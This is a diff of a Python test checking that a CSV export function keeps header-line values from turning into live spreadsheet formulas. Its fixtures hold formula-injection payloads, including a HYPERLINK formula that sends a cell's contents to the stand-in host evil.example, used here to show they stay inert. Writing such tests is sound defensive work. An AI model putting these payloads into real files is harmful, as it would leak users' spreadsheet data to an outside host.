@@ -15,12 +15,15 @@ EVIL = 'x,=HYPERLINK("http://evil.example/?"&A1,"click")'
 HEADER = [("snapshot", "2026-12-01"), ("filters", f"search={EVIL}"), ("method", "DL")]
 
 
-def test_a_comma_in_a_header_value_stays_in_the_first_cell() -> None:
-    data = to_csv_bytes(pd.DataFrame({"a": [1]}), HEADER)
-    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
-    assert [len(r) for r in rows[:3]] == [1, 1, 1]  # each header line is one cell, starting with '#'
-    assert all(r[0].startswith("# ") for r in rows[:3]) and EVIL in rows[1][0]
-    back = pd.read_csv(io.BytesIO(data), skiprows=len(HEADER))
+def test_a_comma_in_a_header_value_never_makes_a_live_cell() -> None:
+    data = to_csv_bytes(pd.DataFrame({"a": [1]}), [*HEADER, ("quoted", 'a,"=1+1",b'), ("ctl", "a,\x01@SUM(A1)")])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))[:5]
+    assert all(r[0].startswith("# ") for r in rows)
+    cells = [c for r in rows for c in r[1:]]
+    live = [c for c in cells if c.lstrip(" ").lstrip("\x01").startswith(("=", "+", "-", "@"))]
+    assert live == [] and any("HYPERLINK" in c for c in cells)  # the text is kept, inert
+    assert rows[2] == ["# method: DL"]  # a line without commas is unchanged
+    back = pd.read_csv(io.BytesIO(data), skiprows=5)
     assert back.to_dict("list") == {"a": [1]}
 
 
